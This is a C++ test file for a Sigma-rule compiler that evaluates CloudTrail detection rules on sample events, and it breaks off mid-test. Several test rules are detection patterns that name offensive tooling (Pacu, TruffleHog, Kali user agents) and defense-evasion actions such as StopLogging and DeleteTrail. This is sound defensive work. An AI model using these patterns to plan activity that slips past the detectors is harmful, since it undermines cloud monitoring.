// The Sigma front end: rules for CloudTrail compiled to the predicate IR and evaluated on
// CloudTrail records read through the ingest pipeline.
#include "detect/rules/sigma.h"

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <new>
#include <set>

#include <simdjson.h>

#include "detect/engine.h"
#include "detect/event_view.h"
#include "detect/rules/native.h"
#include "findings/finding.h"
#include "ingest/reader.h"
#include "test_support.h"

namespace sentinel::testing {
namespace {

using detect::EventView;
using detect::Rule;

/// One Scratch for the whole test binary.
EventView::Scratch* shared_scratch() {
  static EventView::ScratchPtr s = EventView::make_scratch();
  return s.get();
}

/// Evaluates one predicate on every CloudTrail event it is given.
class EvalSink : public ingest::EventSink {
 public:
  explicit EvalSink(const Rule& r) : rule_(r) {}
  void on_cloudtrail(const ingest::CloudTrailEvent& e) override {
    EventView ev(e, shared_scratch());
    results.push_back(rule_.match.eval(ev, detect::EvalContext{}));
  }
  void on_flow(const ingest::FlowRecord&) override {}
  void on_dns(const ingest::DnsQuery&) override {}
  void on_guardduty(const ingest::GuardDutyFinding&) override {}
  void on_digest(const ingest::DigestFile&) override {}
  void on_reject(const Reject&) override { ++rejects; }

  std::vector<bool> results;
  int rejects = 0;

 private:
  const Rule& rule_;
};

/// A CloudTrail record with the envelope filled in and `body` (JSON members) added.
std::string rec(const std::string& body) {
  return R"({"eventVersion":"1.08","eventTime":"2024-01-15T02:00:00Z","awsRegion":"us-east-1","eventID":"e-1","recipientAccountId":"111122223333",)" +
         body + "}";
}

bool matches(const Rule& r, const std::string& body) {
  EvalSink sink(r);
  ingest::Reader reader(ingest::ParseOptions{});
  reader.read_bytes("t.json", "{\"Records\":[" + rec(body) + "]}", sink);
  EXPECT_EQ(sink.rejects, 0) << body;
  EXPECT_EQ(sink.results.size(), 1u) << body;
  return !sink.results.empty() && sink.results[0];
}

const char* kHead = R"(title: Test Rule
id: t-1
logsource:
  product: aws
  service: cloudtrail
level: high
)";

Rule load1(const std::string& detection) {
  std::vector<Rule> rules;
  std::string err;
  std::string text = std::string(kHead) + "detection:\n" + detection;
  EXPECT_TRUE(detect::load_sigma(text, "test.yml", &rules, &err)) << err << "\n" << text;
  if (rules.size() != 1) {
    ADD_FAILURE() << "expected one rule";
    return Rule{};
  }
  return rules[0];
}

std::string load_error(const std::string& text) {
  std::vector<Rule> rules;
  std::string err;
  EXPECT_FALSE(detect::load_sigma(text, "bad.yml", &rules, &err)) << text;
  EXPECT_TRUE(rules.empty());
  return err;
}

std::string detection_error(const std::string& detection) {
  return load_error(std::string(kHead) + "detection:\n" + detection);
}

#define EXPECT_HAS(haystack, needle) \
  EXPECT_NE((haystack).find(needle), std::string::npos) << (haystack)

// Every error names the file, the rule (title and id) and the feature.
void expect_names_rule(const std::string& err) {
  EXPECT_HAS(err, "bad.yml");
  EXPECT_HAS(err, "Test Rule");
  EXPECT_HAS(err, "t-1");
}

// ---------------------------------------------------------------------------------------------
// Skeleton

TEST(Sigma, SkeletonFields) {
  std::vector<Rule> rules;
  std::string err;
  std::string text = R"(title: 'Trail {logging} stopped: by someone'
id: 0b2a5c1e-7d0f-4c7e-9a51-3e8f2d6b7c10
status: test
description: Someone stopped {a} trail.
tags: [attack.defense-evasion, attack.t1562.008]
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    eventSource: cloudtrail.amazonaws.com
    eventName: [StopLogging, DeleteTrail]
  condition: sel
level: critical
)";
  ASSERT_TRUE(detect::load_sigma(text, "f.yml", &rules, &err)) << err;
  ASSERT_EQ(rules.size(), 1u);
  const Rule& r = rules[0];
  EXPECT_EQ(r.id, "0b2a5c1e-7d0f-4c7e-9a51-3e8f2d6b7c10");
  // GuardDuty grammar: the purpose from the first tactic tag, the resource from eventSource.
  EXPECT_EQ(r.type, "DefenseEvasion:IAMUser/TrailLoggingStoppedBySomeone.Sigma");
  EXPECT_EQ(r.title.render(nullptr, {}), "Trail {logging} stopped: by someone");
  EXPECT_EQ(r.description.render(nullptr, {}), "Someone stopped {a} trail.");
  EXPECT_DOUBLE_EQ(r.severity.value, 9.5);
  ASSERT_EQ(r.log_types.size(), 1u);
  EXPECT_EQ(r.log_types[0], ingest::LogType::kCloudTrail);
  EXPECT_EQ(r.tags, (std::vector<std::string>{"attack.defense-evasion", "attack.t1562.008"}));
  EXPECT_EQ(r.index_names, (std::vector<std::string>{"stoplogging", "deletetrail"}));
  EXPECT_EQ(r.source, "f.yml");
  EXPECT_TRUE(r.enabled);
}

TEST(Sigma, IdFallsBackToNameThenSlug) {
  std::vector<Rule> rules;
  std::string err;
  std::string text = R"(title: First One
name: first_one
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventName: A}, condition: sel}
---
title: Second  Rule (v2)!
logsource: {product: AWS, service: CloudTrail}
sentinel_type: Persistence:IAMUser/Backdoor
detection: {sel: {eventName: B}, condition: sel}
level: low
)";
  ASSERT_TRUE(detect::load_sigma(text, "m.yml", &rules, &err)) << err;
  ASSERT_EQ(rules.size(), 2u);
  EXPECT_EQ(rules[0].id, "first_one");
  EXPECT_EQ(rules[0].source, "m.yml#1");
  EXPECT_DOUBLE_EQ(rules[0].severity.value, 5.0);  // no level: medium
  EXPECT_EQ(rules[1].id, "second_rule_v2");
  EXPECT_EQ(rules[1].type, "Persistence:IAMUser/Backdoor");
  EXPECT_EQ(rules[1].source, "m.yml#2");
  EXPECT_DOUBLE_EQ(rules[1].severity.value, 2.0);
}

TEST(Sigma, Levels) {
  double v = 0;
  for (auto [name, want] : std::vector<std::pair<std::string, double>>{
           {"informational", 1}, {"low", 2}, {"medium", 5}, {"high", 8}, {"critical", 9.5}}) {
    ASSERT_TRUE(detect::sigma_level_severity(name, &v)) << name;
    EXPECT_DOUBLE_EQ(v, want);
  }
  EXPECT_FALSE(detect::sigma_level_severity("severe", &v));
  std::string err = load_error(R"(title: Test Rule
id: t-1
logsource: {product: aws, service: cloudtrail}
level: severe
detection: {sel: {eventName: A}, condition: sel}
)");
  expect_names_rule(err);
  EXPECT_HAS(err, "unknown level 'severe'");
}

TEST(Sigma, DeprecatedIsDisabled) {
  std::vector<Rule> rules;
  std::string err;
  ASSERT_TRUE(detect::load_sigma(R"(title: Old
status: deprecated
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventName: A}, condition: sel}
)",
                                 "d.yml", &rules, &err));
  EXPECT_FALSE(rules[0].enabled);
}

// ---------------------------------------------------------------------------------------------
// Values

TEST(Sigma, WholeValueCaseInsensitive) {
  Rule r = load1("  sel:\n    eventName: StopLogging\n  condition: sel\n");
  EXPECT_TRUE(matches(r, R"("eventName":"StopLogging")"));
  EXPECT_TRUE(matches(r, R"("eventName":"stoplogging")"));
  EXPECT_FALSE(matches(r, R"("eventName":"StopLoggingX")"));
  EXPECT_FALSE(matches(r, R"("eventName":"XStopLogging")"));
  EXPECT_FALSE(matches(r, R"("eventSource":"s3.amazonaws.com")"));  // missing field
}

TEST(Sigma, MapIsAndListOfValuesIsOr) {
  Rule r = load1(R"(  sel:
    eventSource: iam.amazonaws.com
    eventName:
      - CreateUser
      - CreateAccessKey
  condition: sel
)");
  EXPECT_TRUE(matches(r, R"("eventSource":"iam.amazonaws.com","eventName":"CreateUser")"));
  EXPECT_TRUE(matches(r, R"("eventSource":"iam.amazonaws.com","eventName":"createaccesskey")"));
  EXPECT_FALSE(matches(r, R"("eventSource":"iam.amazonaws.com","eventName":"DeleteUser")"));
  EXPECT_FALSE(matches(r, R"("eventSource":"s3.amazonaws.com","eventName":"CreateUser")"));
  EXPECT_EQ(r.index_names, (std::vector<std::string>{"createuser", "createaccesskey"}));
}

TEST(Sigma, ListOfMapsIsOr) {
  Rule r = load1(R"(  sel:
    - eventName: A
      errorCode: AccessDenied
    - eventName: B
  condition: sel
)");
  EXPECT_TRUE(matches(r, R"("eventName":"A","errorCode":"AccessDenied")"));
  EXPECT_FALSE(matches(r, R"("eventName":"A")"));
  EXPECT_TRUE(matches(r, R"("eventName":"b")"));
  EXPECT_EQ(r.index_names, (std::vector<std::string>{"a", "b"}));
}

TEST(Sigma, Wildcards) {
  Rule r = load1(R"(  sel:
    userAgent: 'aws-cli/2.*'
    requestParameters.name: 'lay?r'
  condition: sel
)");
  EXPECT_TRUE(
      matches(r, R"("userAgent":"AWS-CLI/2.15 Python","requestParameters":{"name":"LAYER"})"));
  EXPECT_TRUE(matches(r, R"("userAgent":"aws-cli/2.","requestParameters":{"name":"layxr"})"));
  EXPECT_FALSE(matches(r, R"("userAgent":"aws-cli/1.0","requestParameters":{"name":"layer"})"));
  EXPECT_FALSE(matches(r, R"("userAgent":"aws-cli/2.1","requestParameters":{"name":"layeer"})"));
  EXPECT_TRUE(r.index_names.empty());
}

TEST(Sigma, InnerWildcardIsGlob) {
  Rule r = load1("  sel:\n    userAgent: 'a*b*c'\n  condition: sel\n");
  EXPECT_TRUE(matches(r, R"("userAgent":"AxxBxxC")"));
  EXPECT_FALSE(matches(r, R"("userAgent":"AxxBxxCd")"));
}

TEST(Sigma, WildcardEscapes) {
  // \* and \? are literal; \\* is a backslash then a wildcard; a lone \ is literal.
  Rule r = load1(R"(  sel1:
    a: 'x\*y'
  sel2:
    b: 'x\?y'
  sel3:
    c: 'x\\*'
  sel4:
    d: 'C:\Windows'
  sel5:
    e: 'p\\\*q'
  condition: 1 of sel*
)");
  EXPECT_TRUE(matches(r, R"("a":"x*y")"));
  EXPECT_FALSE(matches(r, R"("a":"xzy")"));
  EXPECT_FALSE(matches(r, R"("a":"xy")"));
  EXPECT_TRUE(matches(r, R"("b":"x?y")"));
  EXPECT_FALSE(matches(r, R"("b":"xzy")"));
  EXPECT_TRUE(matches(r, R"("c":"x\\anything")"));
  EXPECT_TRUE(matches(r, R"("c":"x\\")"));
  EXPECT_FALSE(matches(r, R"("c":"xanything")"));
  EXPECT_TRUE(matches(r, R"("d":"c:\\windows")"));
  EXPECT_TRUE(matches(r, R"("e":"p\\*q")"));
  EXPECT_FALSE(matches(r, R"("e":"p\\zq")"));
}

TEST(Sigma, EmptyStringAndNull) {
  Rule r = load1(R"(  empty:
    errorCode: ''
  nul:
    responseElements: null
  condition: empty and nul
)");
  EXPECT_TRUE(matches(r, R"("errorCode":"","responseElements":null)"));
  EXPECT_TRUE(matches(r, R"("errorCode":"")"));  // absent counts as null
  EXPECT_FALSE(matches(r, R"("errorCode":"","responseElements":{"x":1})"));
  EXPECT_FALSE(matches(r, R"("errorCode":"AccessDenied","responseElements":null)"));
}

TEST(Sigma, NullInAList) {
  Rule r = load1("  sel:\n    errorCode: [null, AccessDenied]\n  condition: sel\n");
  EXPECT_TRUE(matches(r, R"("eventName":"X")"));
  EXPECT_TRUE(matches(r, R"("errorCode":"accessdenied")"));
  EXPECT_FALSE(matches(r, R"("errorCode":"Throttling")"));
}

TEST(Sigma, BooleansAndNumbersAsText) {
  Rule r = load1(R"(  sel:
    readOnly: false
    additionalEventData.MFAUsed: 'No'
    userIdentity.sessionContext.attributes.mfaAuthenticated: 'false'
    requestParameters.maxResults: 50
  condition: sel
)");
  EXPECT_TRUE(matches(
      r,
      R"("readOnly":false,"additionalEventData":{"MFAUsed":"No"},"userIdentity":{"sessionContext":{"attributes":{"mfaAuthenticated":"false"}}},"requestParameters":{"maxResults":50})"));
  EXPECT_TRUE(matches(
      r,
      R"("readOnly":"FALSE","additionalEventData":{"MFAUsed":"no"},"userIdentity":{"sessionContext":{"attributes":{"mfaAuthenticated":"false"}}},"requestParameters":{"maxResults":"50"})"));
  EXPECT_TRUE(matches(
      r,
      R"("readOnly":false,"additionalEventData":{"MFAUsed":"No"},"userIdentity":{"sessionContext":{"attributes":{"mfaAuthenticated":"false"}}},"requestParameters":{"maxResults":50.0})"));
  EXPECT_FALSE(matches(
      r,
      R"("readOnly":true,"additionalEventData":{"MFAUsed":"No"},"userIdentity":{"sessionContext":{"attributes":{"mfaAuthenticated":"false"}}},"requestParameters":{"maxResults":50})"));
  EXPECT_FALSE(matches(
      r,
      R"("readOnly":false,"additionalEventData":{"MFAUsed":"No"},"userIdentity":{"sessionContext":{"attributes":{"mfaAuthenticated":"false"}}},"requestParameters":{"maxResults":51})"));
}

TEST(Sigma, ArrayValuesMatchAny) {
  Rule r = load1("  sel:\n    resources.ARN|contains: ':role/admin'\n  condition: sel\n");
  EXPECT_TRUE(
      matches(r, R"("resources":[{"ARN":"arn:aws:s3:::b"},{"ARN":"ARN:AWS:IAM::1:ROLE/ADMIN"}])"));
  EXPECT_FALSE(matches(r, R"("resources":[{"ARN":"arn:aws:s3:::b"}])"));
  // EC2's `items` lists are stepped through too; an array at the end is visited element-wise.
  Rule r2 = load1(R"(  sel:
    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0
    requestParameters.names: b
  condition: sel
)");
  EXPECT_TRUE(matches(
      r2,
      R"("requestParameters":{"names":["a","b"],"ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"},{"cidrIp":"0.0.0.0/0"}]}}]}})"));
  EXPECT_FALSE(matches(
      r2,
      R"("requestParameters":{"names":["a","b"],"ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]}}]}})"));
}

// ---------------------------------------------------------------------------------------------
// Modifiers

TEST(Sigma, Contains) {
  Rule r = load1("  sel:\n    userAgent|contains: [Boto3, 'kali*linux']\n  condition: sel\n");
  EXPECT_TRUE(matches(r, R"("userAgent":"x boto3/1.2 y")"));
  EXPECT_TRUE(matches(r, R"("userAgent":"Agent KALI-linux 6")"));
  EXPECT_FALSE(matches(r, R"("userAgent":"aws-cli")"));
}

TEST(Sigma, StartsWithEndsWith) {
  Rule r = load1(R"(  a:
    userIdentity.arn|startswith: 'arn:aws:sts::'
  b:
    requestParameters.bucketName|endswith: '-backup'
  condition: a and b
)");
  EXPECT_TRUE(matches(
      r,
      R"("userIdentity":{"arn":"ARN:AWS:STS::1:assumed-role/x"},"requestParameters":{"bucketName":"data-BACKUP"})"));
  EXPECT_FALSE(matches(
      r,
      R"("userIdentity":{"arn":"x arn:aws:sts::1"},"requestParameters":{"bucketName":"data-backup"})"));
  EXPECT_FALSE(matches(
      r,
      R"("userIdentity":{"arn":"arn:aws:sts::1"},"requestParameters":{"bucketName":"data-backup2"})"));
}

TEST(Sigma, Cased) {
  Rule r = load1(
      "  sel:\n    eventName|cased: StopLogging\n  c:\n    userAgent|contains|cased: Boto\n  "
      "condition: sel or c\n");
  EXPECT_TRUE(matches(r, R"("eventName":"StopLogging")"));
  EXPECT_FALSE(matches(r, R"("eventName":"stoplogging")"));
  EXPECT_TRUE(matches(r, R"("userAgent":"xBotox")"));
  EXPECT_FALSE(matches(r, R"("userAgent":"xbotox")"));
}

TEST(Sigma, AllModifier) {
  Rule r = load1("  sel:\n    userAgent|contains|all: [python, Boto3]\n  condition: sel\n");
  EXPECT_TRUE(matches(r, R"("userAgent":"Boto3/1 Python/3")"));
  EXPECT_FALSE(matches(r, R"("userAgent":"Boto3/1")"));
  EXPECT_FALSE(matches(r, R"("userAgent":"python")"));
}

TEST(Sigma, AllModifierMixedOps) {
  // One value with a wildcard run inside, one starting with a text: both must match.
  Rule r = load1("  sel:\n    userAgent|all: ['*python*', 'boto*']\n  condition: sel\n");
  EXPECT_TRUE(matches(r, R"("userAgent":"Boto3 Python")"));
  EXPECT_FALSE(matches(r, R"("userAgent":"python boto")"));
  EXPECT_FALSE(matches(r, R"("userAgent":"boto3")"));
}

TEST(Sigma, Regex) {
  Rule r = load1(R"(  a:
    userAgent|re: '^Boto3/1\.[0-9]+'
  b:
    requestParameters.name|re|i: 'evil'
  condition: a or b
)");
  EXPECT_TRUE(matches(r, R"("userAgent":"Boto3/1.28 Python")"));
  EXPECT_FALSE(matches(r, R"("userAgent":"boto3/1.28 Python")"));  // case-sensitive
  EXPECT_FALSE(matches(r, R"("userAgent":"x Boto3/1.28")"));
  EXPECT_TRUE(matches(r, R"("requestParameters":{"name":"an EVIL layer"})"));
}

TEST(Sigma, RegexRefusedWhenRe2CannotCompile) {
  std::string err = detection_error("  sel:\n    userAgent|re: '(?<=a)b'\n  condition: sel\n");
  expect_names_rule(err);
  EXPECT_HAS(err, "RE2");
  EXPECT_HAS(err, "userAgent|re");
}

TEST(Sigma, Cidr) {
  Rule r =
      load1("  sel:\n    sourceIPAddress|cidr: [10.0.0.0/8, '2001:db8::/32']\n  condition: sel\n");
  EXPECT_TRUE(matches(r, R"("sourceIPAddress":"10.1.2.3")"));
  EXPECT_TRUE(matches(r, R"("sourceIPAddress":"2001:db8::1")"));
  EXPECT_FALSE(matches(r, R"("sourceIPAddress":"11.1.2.3")"));
  EXPECT_FALSE(matches(r, R"("sourceIPAddress":"AWS Internal")"));
}

TEST(Sigma, Exists) {
  Rule r = load1(R"(  has:
    errorCode|exists: true
  hasnt:
    userIdentity.invokedBy|exists: false
  condition: has and hasnt
)");
  EXPECT_TRUE(matches(r, R"("errorCode":"AccessDenied")"));
  EXPECT_FALSE(matches(r, R"("eventName":"X")"));
  EXPECT_FALSE(
      matches(r, R"("errorCode":"AccessDenied","userIdentity":{"invokedBy":"s3.amazonaws.com"})"));
}

TEST(Sigma, NumericComparisons) {
  Rule r = load1(R"(  a:
    requestParameters.durationSeconds|gte: 3600
  b:
    requestParameters.durationSeconds|lt: 43200
  condition: a and b
)");
  EXPECT_TRUE(matches(r, R"("requestParameters":{"durationSeconds":3600})"));
  EXPECT_TRUE(matches(r, R"("requestParameters":{"durationSeconds":"7200"})"));
  EXPECT_FALSE(matches(r, R"("requestParameters":{"durationSeconds":900})"));
  EXPECT_FALSE(matches(r, R"("requestParameters":{"durationSeconds":43200})"));
  Rule r2 = load1("  a:\n    x|gt: 1.5\n  b:\n    y|lte: -2\n  condition: a or b\n");
  EXPECT_TRUE(matches(r2, R"("x":2)"));
  EXPECT_FALSE(matches(r2, R"("x":1.5)"));
  EXPECT_TRUE(matches(r2, R"("y":-2)"));
  EXPECT_FALSE(matches(r2, R"("y":-1)"));
}

TEST(Sigma, Neq) {
  Rule r = load1(
      "  sel:\n    eventName: ConsoleLogin\n    userIdentity.type|neq: [Root, AssumedRole]\n  "
      "condition: sel\n");
  EXPECT_TRUE(matches(r, R"("eventName":"ConsoleLogin","userIdentity":{"type":"IAMUser"})"));
  EXPECT_FALSE(matches(r, R"("eventName":"ConsoleLogin","userIdentity":{"type":"root"})"));
  EXPECT_FALSE(matches(r, R"("eventName":"ConsoleLogin","userIdentity":{"type":"AssumedRole"})"));
  // A missing field is not "different": like `!=` elsewhere, it does not match.
  EXPECT_FALSE(matches(r, R"("eventName":"ConsoleLogin")"));
  Rule r2 = load1("  sel:\n    userAgent|contains|neq: [boto, 'cli*2']\n  condition: sel\n");
  EXPECT_TRUE(matches(r2, R"("userAgent":"console.amazonaws.com")"));
  EXPECT_FALSE(matches(r2, R"("userAgent":"Boto3")"));
  EXPECT_FALSE(matches(r2, R"("userAgent":"aws-cli/2.1")"));
}

// ---------------------------------------------------------------------------------------------
// Conditions

const char* kABC = R"(  a:
    x: '1'
  b:
    y: '1'
  c:
    z: '1'
)";

std::string ev(bool a, bool b, bool c) {
  std::string s = R"("eventName":"E")";
  if (a) s += R"(,"x":"1")";
  if (b) s += R"(,"y":"1")";
  if (c) s += R"(,"z":"1")";
  return s;
}

void expect_truth_table(const Rule& r, bool (*f)(bool, bool, bool)) {
  for (int m = 0; m < 8; ++m) {
    bool a = m & 1, b = m & 2, c = m & 4;
    EXPECT_EQ(matches(r, ev(a, b, c)), f(a, b, c)) << "a=" << a << " b=" << b << " c=" << c;
  }
}

TEST(Sigma, PrecedenceOrAndNot) {
  Rule r = load1(std::string(kABC) + "  condition: a or b and not c\n");
  expect_truth_table(r, [](bool a, bool b, bool c) { return a || (b && !c); });
}

TEST(Sigma, Parentheses) {
  Rule r = load1(std::string(kABC) + "  condition: (a or b) and not c\n");
  expect_truth_table(r, [](bool a, bool b, bool c) { return (a || b) && !c; });
  Rule r2 = load1(std::string(kABC) + "  condition: not (a and (b or c))\n");
  expect_truth_table(r2, [](bool a, bool b, bool c) { return !(a && (b || c)); });
}

TEST(Sigma, NotNot) {
  Rule r = load1(std::string(kABC) + "  condition: not not a and b\n");
  expect_truth_table(r, [](bool a, bool b, bool) { return a && b; });
}

TEST(Sigma, ConditionList) {
  Rule r = load1(std::string(kABC) + "  condition:\n    - a and b\n    - c\n");
  expect_truth_table(r, [](bool a, bool b, bool c) { return (a && b) || c; });
}

TEST(Sigma, OneOfAllOfPattern) {
  const std::string d = R"(  sel_a:
    x: '1'
  sel_b:
    y: '1'
  filter:
    z: '1'
)";
  Rule one = load1(d + "  condition: 1 of sel_* and not filter\n");
  expect_truth_table(one, [](bool a, bool b, bool c) { return (a || b) && !c; });
  Rule all = load1(d + "  condition: all of sel_*\n");
  expect_truth_table(all, [](bool a, bool b, bool) { return a && b; });
}

TEST(Sigma, ThemExcludesUnderscore) {
  const std::string d = R"(  a:
    x: '1'
  b:
    y: '1'
  _c:
    z: '1'
)";
  Rule one = load1(d + "  condition: 1 of them\n");
  expect_truth_table(one, [](bool a, bool b, bool) { return a || b; });
  Rule all = load1(d + "  condition: all of them\n");
  expect_truth_table(all, [](bool a, bool b, bool) { return a && b; });
  Rule under = load1(d + "  condition: all of them and not _c\n");
  expect_truth_table(under, [](bool a, bool b, bool c) { return a && b && !c; });
}

TEST(Sigma, NotOneOf) {
  Rule r = load1(std::string(kABC) + "  condition: a and not 1 of b*\n");
  // `b*` matches only b.
  expect_truth_table(r, [](bool a, bool b, bool) { return a && !b; });
}

TEST(Sigma, IndexNamesFromTopLevelAnd) {
  Rule r = load1(R"(  sel:
    eventSource: s3.amazonaws.com
    eventName: PutBucketPolicy
  filter:
    userAgent|contains: console
  condition: sel and not filter
)");
  EXPECT_EQ(r.index_names, (std::vector<std::string>{"putbucketpolicy"}));
  Rule wild = load1("  sel:\n    eventName: 'Put*'\n  condition: sel\n");
  EXPECT_TRUE(wild.index_names.empty());
  Rule neg = load1("  sel:\n    eventName: PutX\n  condition: not sel\n");
  EXPECT_TRUE(neg.index_names.empty());
  Rule two = load1(R"(  a:
    eventSource: iam.amazonaws.com
    eventName: CreatePolicyVersion
  b:
    eventSource: iam.amazonaws.com
    eventName: SetDefaultPolicyVersion
  f:
    userIdentity.type: AWSService
  condition: (a or b) and not f
)");
  EXPECT_EQ(two.index_names,
            (std::vector<std::string>{"createpolicyversion", "setdefaultpolicyversion"}));
  Rule either = load1("  a:\n    eventName: A\n  b:\n    userAgent: x\n  condition: a or b\n");
  EXPECT_TRUE(either.index_names.empty());
}

// ---------------------------------------------------------------------------------------------
// Refusals: each names the file, the rule and the feature.

TEST(SigmaRefuses, UnknownIdentifierWithColumn) {
  std::string err =
      detection_error("  selection:\n    eventName: A\n  condition: selection and selction\n");
  expect_names_rule(err);
  EXPECT_HAS(err, "condition: unknown identifier 'selction' at column 15");
}

TEST(SigmaRefuses, ConditionSyntax) {
  expect_names_rule(detection_error("  a:\n    x: 1\n  condition: (a\n"));
  EXPECT_HAS(detection_error("  a:\n    x: 1\n  condition: (a\n"), "missing ')'");
  EXPECT_HAS(detection_error("  a:\n    x: 1\n  condition: a and\n"), "unexpected end");
  EXPECT_HAS(detection_error("  a:\n    x: 1\n  condition: a b\n"), "unexpected 'b' at column 3");
  EXPECT_HAS(detection_error("  a:\n    x: 1\n  condition: 1 of zz*\n"), "pattern 'zz*'");
  EXPECT_HAS(detection_error("  a:\n    x: 1\n"), "missing 'condition'");
}

TEST(SigmaRefuses, LegacyAggregation) {
  std::string err = detection_error(
      "  sel:\n    eventName: ConsoleLogin\n  timeframe: 5m\n  condition: sel | count() by "
      "sourceIPAddress > 5\n");
  expect_names_rule(err);
  EXPECT_HAS(err, "aggregation");
  EXPECT_HAS(err, "count()");
}

TEST(SigmaRefuses, Near) {
  std::string err = detection_error("  a:\n    x: 1\n  b:\n    y: 1\n  condition: a and near b\n");
  expect_names_rule(err);
  EXPECT_HAS(err, "'near'");
}

TEST(SigmaRefuses, TimeModifiers) {
  for (const char* m : {"minute", "hour", "day", "week", "month", "year"}) {
    std::string err =
        detection_error(std::string("  sel:\n    eventTime|") + m + ": 3\n  condition: sel\n");
    expect_names_rule(err);
    EXPECT_HAS(err, std::string("modifier '") + m + "'");
    EXPECT_HAS(err, "is not supported");
  }
}

TEST(SigmaRefuses, UnknownModifier) {
  std::string err = detection_error("  sel:\n    userAgent|contain: x\n  condition: sel\n");
  expect_names_rule(err);
  EXPECT_HAS(err, "unknown modifier 'contain'");
}

TEST(SigmaRefuses, BadModifierValues) {
  EXPECT_HAS(detection_error("  sel:\n    x|exists: maybe\n  condition: sel\n"),
             "'exists' takes true or false");
  EXPECT_HAS(detection_error("  sel:\n    x|gt: many\n  condition: sel\n"),
             "'many' is not a number");
  EXPECT_HAS(detection_error("  sel:\n    x|cidr: 10.0.0.0/33\n  condition: sel\n"), "bad network");
  EXPECT_HAS(detection_error("  sel:\n    x|contains|startswith: a\n  condition: sel\n"),
             "cannot be combined");
  EXPECT_HAS(detection_error("  sel:\n    x|all|neq: [a, b]\n  condition: sel\n"),
             "'all' and 'neq'");
}

TEST(SigmaRefuses, OtherLogSource) {
  std::string err = load_error(R"(title: Test Rule
id: t-1
logsource: {product: azure, service: activitylogs}
detection: {sel: {operationName: x}, condition: sel}
)");
  expect_names_rule(err);
  EXPECT_HAS(err, "logsource");
  EXPECT_HAS(err, "azure");
  std::string err2 = load_error(
      "title: Test Rule\nid: t-1\nlogsource: {product: aws, service: cloudtrail, category: "
      "x}\ndetection: {sel: {a: b}, condition: sel}\n");
  EXPECT_HAS(err2, "category");
}

TEST(SigmaRefuses, MissingTitleAndBadYaml) {
  EXPECT_HAS(load_error("id: x\nlogsource: {product: aws, service: cloudtrail}\ndetection: {sel: "
                        "{a: b}, condition: sel}\n"),
             "missing 'title'");
  EXPECT_HAS(load_error("title: [unclosed\n"), "YAML");
  EXPECT_HAS(load_error(""), "no Sigma rule");
}

TEST(SigmaRefuses, WholeFileOnAnyError) {
  std::vector<Rule> rules;
  std::string err;
  EXPECT_FALSE(detect::load_sigma(R"(title: Good
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventName: A}, condition: sel}
---
title: Test Rule
id: t-1
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventName|hour: A}, condition: sel}
)",
                                  "bad.yml", &rules, &err));
  EXPECT_TRUE(rules.empty());
  EXPECT_HAS(err, "bad.yml#2: rule 'Test Rule' (t-1)");
}

// ---------------------------------------------------------------------------------------------
// Keyword search, object members, fieldref, expand, encodings, categories, finding types

/// A NamedLists with one list, for `expand`.
class OneList : public detect::NamedLists {
 public:
  OneList(std::string name, std::vector<std::string> values)
      : name_(std::move(name)), values_(std::move(values)) {}
  bool contains(std::string_view name, const detect::Value& v,
                std::string* matched) const override {
    if (name != name_ || v.kind != detect::Value::Kind::kString) return false;
    for (const auto& x : values_) {
      if (v.str == x) {
        *matched = name_;
        return true;
      }
    }
    return false;
  }

 private:
  std::string name_;
  std::vector<std::string> values_;
};

/// Like matches(), with named lists.
class ListEvalSink : public EvalSink {
 public:
  ListEvalSink(const Rule& r, const detect::NamedLists* lists)
      : EvalSink(r), r_(r), lists_(lists) {}
  void on_cloudtrail(const ingest::CloudTrailEvent& e) override {
    EventView ev(e, shared_scratch());
    std::vector<std::string> matched;
    detect::EvalContext ctx;
    ctx.lists = lists_;
    ctx.matched_lists = &matched;
    results.push_back(r_.match.eval(ev, ctx));
  }

 private:
  const Rule& r_;
  const detect::NamedLists* lists_;
};

bool matches_with(const Rule& r, const std::string& body, const detect::NamedLists* lists) {
  ListEvalSink sink(r, lists);
  ingest::Reader reader(ingest::ParseOptions{});
  reader.read_bytes("t.json", "{\"Records\":[" + rec(body) + "]}", sink);
  EXPECT_EQ(sink.rejects, 0) << body;
  return sink.results.size() == 1 && sink.results[0];
}

TEST(Sigma, KeywordListSearchesTheWholeRecord) {
  Rule r = load1("  keywords:\n    - 'TruffleHog'\n    - 'pacu*/'\n  condition: keywords\n");
  // Case-insensitive, anywhere in the record's JSON text, wildcards inside honoured.
  EXPECT_TRUE(matches(r, R"("eventName":"GetCallerIdentity","userAgent":"trufflehog v3.63.2")"));
  EXPECT_TRUE(matches(r, R"("eventName":"ListUsers","userAgent":"Pacu/1.0 aws-cli")"));
  EXPECT_TRUE(matches(r, R"("eventName":"X","requestParameters":{"note":"by TRUFFLEHOG"})"));
  EXPECT_FALSE(matches(r, R"("eventName":"ListUsers","userAgent":"aws-cli/2.15.0")"));
  EXPECT_TRUE(r.index_names.empty());
}

TEST(Sigma, KeywordAllScalarAndCombination) {
  Rule all = load1("  kw:\n    '|all':\n      - StopLogging\n      - mallory\n  condition: kw\n");
  EXPECT_TRUE(matches(
      all, R"("eventName":"StopLogging","userIdentity":{"arn":"arn:aws:iam::1:user/mallory"})"));
  EXPECT_FALSE(matches(
      all, R"("eventName":"StopLogging","userIdentity":{"arn":"arn:aws:iam::1:user/alice"})"));
  Rule one = load1("  kw: 'S3 Browser'\n  condition: kw\n");
  EXPECT_TRUE(matches(one, R"("eventName":"ListBuckets","userAgent":"S3 Browser 11.5.7")"));
  EXPECT_FALSE(matches(one, R"("eventName":"ListBuckets","userAgent":"S3Browser")"));
  Rule mixed = load1(
      "  sel:\n    eventSource: iam.amazonaws.com\n  noise:\n    - 'terraform'\n  condition: sel "
      "and not noise\n");
  EXPECT_TRUE(matches(mixed, R"("eventSource":"iam.amazonaws.com","userAgent":"aws-cli")"));
  EXPECT_FALSE(matches(mixed, R"("eventSource":"iam.amazonaws.com","userAgent":"Terraform/1.6")"));
  Rule cased = load1("  kw:\n    '|cased':\n      - Mallory\n  condition: kw\n");
